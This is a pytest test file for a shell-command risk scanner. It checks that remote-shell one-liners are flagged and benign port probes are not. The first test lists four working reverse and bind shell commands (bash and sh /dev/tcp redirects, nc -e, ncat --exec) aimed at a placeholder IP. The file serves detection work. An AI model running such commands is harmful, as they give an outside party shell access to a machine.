"""A shell for somebody on another computer, and the same device used to see whether a port answers."""

from __future__ import annotations

import pytest

from riskscan.model.artifact import Language
from tests.support import effects


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/198.51.100.7/4242 0>&1",
        "/bin/sh -i > /dev/tcp/198.51.100.7/4242",
        "nc -lvp 4242 -e /bin/bash",
        "ncat --exec /bin/sh 198.51.100.7 1",
    ],
)
def test_a_shell_for_others_is_told(text: str) -> None:
    assert [(e.rule, e.operation.value) for e in effects(text, Language.SHELL)] == [("shell/remote-shell", "grant")]


@pytest.mark.parametrize(
    "text",
    [
        "until echo > /dev/tcp/localhost/5432; do sleep 1; done",
        "nc -z db 5432",
        "bash check.sh > /dev/null",
        "cat < /dev/tcp/time.example.com/13",
    ],
)
def test_a_look_at_a_port_is_not(text: str) -> None:
    assert not [e for e in effects(text, Language.SHELL) if e.rule in ("shell/remote-shell", "shell/overwrite-file")]
